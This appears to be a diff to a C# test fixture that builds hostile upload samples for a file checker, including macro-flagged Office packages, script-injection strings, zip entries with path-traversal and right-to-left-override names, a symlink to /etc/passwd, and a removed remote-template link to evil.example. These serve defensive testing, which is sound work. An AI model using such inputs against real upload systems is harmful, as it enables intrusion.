@@ -7,9 +7,7 @@ namespace SupervisionBot.Tests.Core.FileChecks;
 /// <summary>Files that somebody might hand in to do harm, or by mistake, and good ones; each made here, by name.</summary>
 static class HostileFiles
 {
-    public const string Types = """<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>""";
-
-    static readonly byte[] OldOffice = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[600]];
+    internal static readonly byte[] OldOffice = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[600]];
     static readonly byte[] PngHead = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52];
 
     /// <summary>A whole one, with these objects besides its pages.</summary>
@@ -51,12 +49,28 @@ static class HostileFiles
         return memory.ToArray();
     }
 
-    public static byte[] Docx(params (string Name, byte[] Bytes)[] more) => Zip([("[Content_Types].xml", Text(Types)), ("word/document.xml", Text("<w/>")), .. more]);
+    public static byte[] Docx(params (string Name, byte[] Bytes)[] more) =>
+        Office("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", more);
 
-    public static byte[] Pptx(int slides) => Zip([("[Content_Types].xml", Text(Types)), ("ppt/presentation.xml", Text("<p/>")),
-        .. Enumerable.Range(1, slides).Select(number => ($"ppt/slides/slide{number}.xml", Text("<s/>")))]);
+    public static byte[] Pptx(int slides, params (string Name, byte[] Bytes)[] more) => Office("ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
+        [.. Enumerable.Range(1, slides).Select(number => ($"ppt/slides/slide{number}.xml", Text("<s/>"))), .. more]);
 
-    public static byte[] Xlsx() => Zip(("[Content_Types].xml", Text(Types)), ("xl/workbook.xml", Text("<x/>")));
+    public static byte[] Xlsx(params (string Name, byte[] Bytes)[] more) => Office("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", more);
+
+    /// <summary>A document whose main part is called and said to be this.</summary>
+    public static byte[] Office(string main, string kind, params (string Name, byte[] Bytes)[] more) => Zip(
+    [
+        ("[Content_Types].xml", Text($"""<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
+            <Default Extension="xml" ContentType="application/xml"/><Override PartName="/{main}" ContentType="{kind}"/>
+            {string.Concat(more.Where(part => part.Name.StartsWith("ppt/slides/", StringComparison.Ordinal)).Select(part =>
+                $"""<Override PartName="/{part.Name}" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slide+xml"/>"""))}</Types>""")),
+        ("_rels/.rels", Relation("officeDocument", main)), (main, Text("<x/>")), .. more,
+    ]);
+
+    public static byte[] Relation(string kind, string target, string where = "schemas.openxmlformats.org/officeDocument/2006") => Text($"""
+        <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"
+          Type="http://{where}/relationships/{kind}" Target="{target}"{(kind == "officeDocument" ? "" : " TargetMode=\"External\"")}/></Relationships>
+        """.TrimStart());
 
     public static byte[] Png(uint width = 10, uint height = 10, bool whole = true) =>
         [.. PngHead, .. Number(width), .. Number(height), 8, 2, 0, 0, 0, .. new byte[4], .. Number(100), .. "IDAT"u8, .. new byte[104], .. whole ? [.. Number(0), .. "IEND"u8, .. new byte[4]] : (byte[])[]];
@@ -93,7 +107,7 @@ static class HostileFiles
         foreach (var text in (string[])["", "<html><script>alert(1)</script>", "{\\rtf1}", "plain", "GIF89a", "RIFF1234WEBP", "Rar!\u001a\u0007", "7z\u00bc\u00af", "<svg onload=alert(1)>"])
             yield return ("report.pdf", Encoding.Latin1.GetBytes(text), FileFault.UnknownKind);
         yield return ("report.doc", OldOffice, FileFault.UnknownKind);
-        yield return ("package.docx", Zip(("[Content_Types].xml", Text(Types)), ("other/part.xml", Text("<o/>"))), FileFault.UnknownKind);
+        yield return ("package.docx", Office("other/part.xml", "application/xml"), FileFault.UnknownKind);
         // With a password.
         yield return ("report.docx", OldOffice, FileFault.Encrypted);
         yield return ("report.pdf", Pdf(trailer: "<</Root 1 0 R /Encrypt 9 0 R>>"), FileFault.Encrypted);
@@ -111,23 +125,16 @@ static class HostileFiles
         yield return ("report.docx", Text("PK\u0003\u0004"), FileFault.Damaged);
         yield return ("all.zip", Zip(), FileFault.Damaged);
         foreach (var (bytes, fault) in HostilePdfs.All()) yield return ("report.pdf", bytes, fault);
-        // What runs when it is opened.
-        yield return ("report.docx", Docx(("word/vbaProject.bin", Text("x"))), FileFault.Macros);
-        yield return ("report.docx", Docx(("word/activeX/activeX1.bin", Text("x"))), FileFault.Macros);
-        yield return ("hours.xlsx", Zip(("[Content_Types].xml", Text(Types)), ("xl/workbook.xml", Text("<x/>")), ("xl/macrosheets/sheet1.xml", Text("<x/>"))), FileFault.Macros);
-        yield return ("report.docx", Zip(("[Content_Types].xml", Text(Types.Replace("application/xml", "application/vnd.ms-word.document.macroEnabled.main+xml"))), ("word/document.xml", Text("<w/>"))), FileFault.Macros);
-        yield return ("report.docx", Zip(("[Content_Types].xml", [.. Encoding.Unicode.Preamble, .. Encoding.Unicode.GetBytes(Types.Replace("application/xml", "macroEnabled"))]), ("word/document.xml", Text("<w/>"))), FileFault.Macros);
-        yield return ("report.docx", Docx(("word/_rels/settings.xml.rels", Text("""<R Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>"""))), FileFault.Macros);
+        foreach (var file in HostileOffice.All()) yield return file;
         // Something else inside.
-        yield return ("report.docx", Docx(("word/embeddings/oleObject1.bin", Text("x"))), FileFault.OddContent);
         yield return ("report.pdf", [.. Pdf(), .. Zip(("a.pdf", Pdf())), .. "\n%%EOF\n"u8], FileFault.HiddenContent);
         yield return ("photo.jpg", [.. Jpeg(), .. Zip(("a.js", Text("x"))), 0xFF, 0xD9], FileFault.HiddenContent);
         yield return ("all.zip", Zip(("notes.txt", Text("x"))), FileFault.OddContent);
         yield return ("all.zip", Zip(("inner.zip", Zip(("a.pdf", Pdf())))), FileFault.OddContent);
         yield return ("all.zip", Zip(("report.docx", Pdf())), FileFault.OddContent);
-        yield return ("all.zip", Zip(("good.pdf", Pdf()), ("bad.docx", Docx(("word/vbaProject.bin", Text("x"))))), FileFault.Macros);
+        yield return ("all.zip", Zip(("good.pdf", Pdf()), ("bad.docx", Docx(("word/x.xml", Text("<xm:macrosheet xmlns:xm='x'/>"))))), FileFault.Macros);
         // Names that lead elsewhere.
-        foreach (var name in (string[])["../../etc/cron.d/x.pdf", "/etc/x.pdf", "a/../../x.pdf", "C:\\Windows\\x.pdf", "..\\x.pdf", "a/./x.pdf", "x\u0001.pdf", "a.pdf:stream", new string('a', 300) + ".pdf"])
+        foreach (var name in (string[])["a\u202Efdp.exe.pdf", "../../etc/cron.d/x.pdf", "/etc/x.pdf", "a/../../x.pdf", "C:\\Windows\\x.pdf", "..\\x.pdf", "a/./x.pdf", "x\u0001.pdf", "a.pdf:stream", new string('a', 300) + ".pdf"])
             yield return ("all.zip", Zip((name, Pdf())), FileFault.PathTrick);
         yield return ("all.zip", Zip(("a.pdf", Pdf()), ("A.PDF", Pdf())), FileFault.PathTrick);
         yield return ("all.zip", Linked(Zip(("a.pdf", Text("/etc/passwd")))), FileFault.PathTrick);
